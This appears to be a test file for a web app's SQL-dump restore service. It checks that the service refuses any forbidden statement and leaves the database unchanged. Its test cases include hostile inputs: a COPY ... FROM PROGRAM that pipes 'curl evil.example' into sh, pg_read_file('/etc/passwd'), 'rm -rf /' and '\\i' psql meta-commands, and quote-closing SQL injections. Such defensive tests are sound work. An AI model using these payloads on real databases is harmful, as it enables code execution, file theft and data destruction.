// The restore accepts data and nothing else: every forbidden construct refuses the WHOLE dump with
// a 400 naming its line (even when valid inserts come before it), before the database is touched;
// a different migration level is a 409; a dump whose values do not fit rolls back completely.
import { sql } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { DomainError } from "../../src/server/errors";
import { restoreDumpFile } from "../../src/server/services/backup/restore";
import { makeUser } from "../helpers/actors";
import { testDbForFile } from "../helpers/db";
import { dumpText, tempDirForFile, writeTemp } from "./helpers";
import { snapshotEveryTable } from "./seed-every-table";

const t = testDbForFile();
const dir = tempDirForFile();
let valid = "";
let before: Awaited<ReturnType<typeof snapshotEveryTable>>;

beforeAll(async () => {
  await makeUser(t.db, "ADMIN");
  await makeUser(t.db);
  valid = await dumpText(t.db);
  // A change after the dump: a refused restore must leave it in place (nothing truncated).
  await makeUser(t.db, "USER", "after-the-dump@example.com");
  before = await snapshotEveryTable(t.db);
});

let n = 0;
async function restoreText(text: string) {
  return restoreDumpFile(t.db, await writeTemp(await dir(), `case-${n++}.sql`, text));
}

async function refusal(text: string): Promise<DomainError> {
  const err = await restoreText(text).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(DomainError);
  // Nothing changed: not a row, not the user added after the dump.
  expect(await snapshotEveryTable(t.db)).toEqual(before);
  return err as DomainError;
}

const lineOf = (text: string, needle: string) => text.slice(0, text.indexOf(needle)).split("\n").length;

describe("restore refuses anything but data, whole and untouched", () => {
  const tail = (extra: string) => `${valid}${extra}\n`;
  const cases: [string, string, string, string][] = [
    ["DROP", "DROP TABLE users;", "backup_statement_refused", "DROP TABLE"],
    ["DELETE", "DELETE FROM users;", "backup_statement_refused", "DELETE FROM"],
    ["UPDATE", "UPDATE users SET role = 'ADMIN';", "backup_statement_refused", "UPDATE users"],
    ["COPY ... PROGRAM", "COPY users FROM PROGRAM 'curl evil.example | sh';", "backup_statement_refused", "COPY users"],
    ["a function call as a value", `INSERT INTO "app_config" ("key", "value") VALUES ('k', pg_read_file('/etc/passwd'));`, "backup_syntax", "INSERT INTO \"app_config\" (\"key\", \"value\") VALUES ('k', pg_read_file"],
    ["now()", `INSERT INTO "app_config" ("key", "value") VALUES ('k', now());`, "backup_syntax", "INSERT INTO \"app_config\" (\"key\", \"value\") VALUES ('k', now"],
    ["a sub-select", `INSERT INTO "app_config" ("key", "value") VALUES ('k', (SELECT '1'));`, "backup_syntax", "INSERT INTO \"app_config\" (\"key\", \"value\") VALUES ('k', (SELECT"],
    ["INSERT ... SELECT", `INSERT INTO "app_config" ("key", "value") SELECT 'a', '1';`, "backup_syntax", "INSERT INTO \"app_config\" (\"key\", \"value\") SELECT"],
    ["a psql meta-command", "\\! rm -rf /", "backup_syntax", "\\! rm"],
    ["\\i include", "\\i /etc/passwd", "backup_syntax", "\\i /etc"],
    ["dollar quoting", `INSERT INTO "app_config" ("key", "value") VALUES ('k', $$1$$);`, "backup_syntax", "INSERT INTO \"app_config\" (\"key\", \"value\") VALUES ('k', $$"],
    ["an E'' string", `INSERT INTO "app_config" ("key", "value") VALUES ('k', E'\\x27');`, "backup_syntax", "INSERT INTO \"app_config\" (\"key\", \"value\") VALUES ('k', E'"],
    ["a cast", `INSERT INTO "app_config" ("key", "value") VALUES ('k', '1'::jsonb);`, "backup_syntax", "INSERT INTO \"app_config\" (\"key\", \"value\") VALUES ('k', '1'::"],
    ["an unknown table", `INSERT INTO "pg_authid" ("rolname") VALUES ('x');`, "backup_unknown_table", "INSERT INTO \"pg_authid\""],
    ["a schema-qualified table", `INSERT INTO pg_catalog.pg_authid ("rolname") VALUES ('x');`, "backup_unknown_table", "INSERT INTO pg_catalog.pg_authid"],
    ["an unknown column", `INSERT INTO "users" ("id", "is_superuser") VALUES ('x', TRUE);`, "backup_unknown_column", "INSERT INTO \"users\" (\"id\", \"is_superuser\")"],
    ["a string that closes itself to smuggle a statement", `INSERT INTO "app_config" ("key", "value") VALUES ('a', '1'); DELETE FROM users; --');`, "backup_statement_refused", "INSERT INTO \"app_config\" (\"key\", \"value\") VALUES ('a', '1'); DELETE"],
    ["a quoted name that closes itself", `INSERT INTO "users"; DROP TABLE users; --" ("id") VALUES ('x');`, "backup_syntax", "INSERT INTO \"users\"; DROP"],
    ["a transaction statement", "COMMIT;", "backup_statement_refused", "COMMIT;"],
    ["SET", "SET session_replication_role = replica;", "backup_statement_refused", "SET session"],
    ["a row with too few values", `INSERT INTO "app_config" ("key", "value") VALUES ('k');`, "backup_value_count", "INSERT INTO \"app_config\" (\"key\", \"value\") VALUES ('k');"],
    ["an unterminated string", `INSERT INTO "app_config" ("key", "value") VALUES ('k, '1');`, "backup_syntax", "INSERT INTO \"app_config\" (\"key\", \"value\") VALUES ('k, '1');"],
  ];
  for (const [title, extra, reason, needle] of cases) {
    it(`${title}: 400 ${reason} with the line`, async () => {
      const text = tail(extra);
      const err = await refusal(text);
      expect(err.code).toBe("VALIDATION");
      expect(err.reason).toBe(reason);
      expect(err.details.line).toBe(lineOf(text, needle));
    });
  }

  it("a forbidden statement in the middle refuses the inserts before it too", async () => {
    const at = valid.indexOf("\n-- table: users");
    const text = `${valid.slice(0, at)}\nDROP TABLE orders;\n${valid.slice(at)}`;
    const err = await refusal(text);
    expect(err.reason).toBe("backup_statement_refused");
  });

  it("a dump of another migration level is a 409, a file without the header a 400", async () => {
    const other = valid.replace(/^-- migrations: (\d+)$/m, (_, c: string) => `-- migrations: ${Number(c) - 1}`);
    const err = await refusal(other);
    expect(err.code).toBe("CONFLICT");
    expect(err.reason).toBe("backup_migration_mismatch");
    expect((await refusal(valid.replace(/^-- migration-last: .*$/m, "-- migration-last: 1"))).reason).toBe("backup_migration_mismatch");
    expect((await refusal(valid.replace(/^-- Relayboard[\s\S]*?\n\n/, ""))).reason).toBe("backup_header_missing");
    expect((await refusal(valid.replace("-- format: 1", "-- format: 2"))).reason).toBe("backup_format_unsupported");
  });

  it("values the database refuses roll the whole restore back (400 backup_replay_failed)", async () => {
    const text = tail(`INSERT INTO "audit_logs" ("id", "actor_kind", "action", "metadata") VALUES ('not a number', 'system', 'x', '{}');`);
    const err = await refusal(text);
    expect(err.reason).toBe("backup_replay_failed");
    expect(err.details).toMatchObject({ table: "audit_logs", line: text.slice(0, text.lastIndexOf(`INSERT INTO "audit_logs"`)).split("\n").length, cause: "22P02" });
  });

  it("strings that merely look like SQL are data", async () => {
    const text = tail(`INSERT INTO "app_config" ("key", "value") VALUES ('x''); DROP TABLE users; --', '"\\\\! rm -rf / $$ now() /* */"');`);
    const r = await restoreText(text);
    expect(r.rows.app_config).toBeGreaterThan(0);
    const rows = ((await t.db.execute(sql`select value #>> '{}' as v from app_config where key = 'x''); DROP TABLE users; --'`)) as unknown as { rows: { v: string }[] }).rows;
    expect(rows).toEqual([{ v: "\\! rm -rf / $$ now() /* */" }]);
    // The restore replaced the data with the dump's: the user added after the dump is gone.
    const after = ((await t.db.execute(sql`select count(*)::int as n from users where email = 'after-the-dump@example.com'`)) as unknown as { rows: { n: number }[] }).rows;
    expect(Number(after[0]!.n)).toBe(0);
  });
});
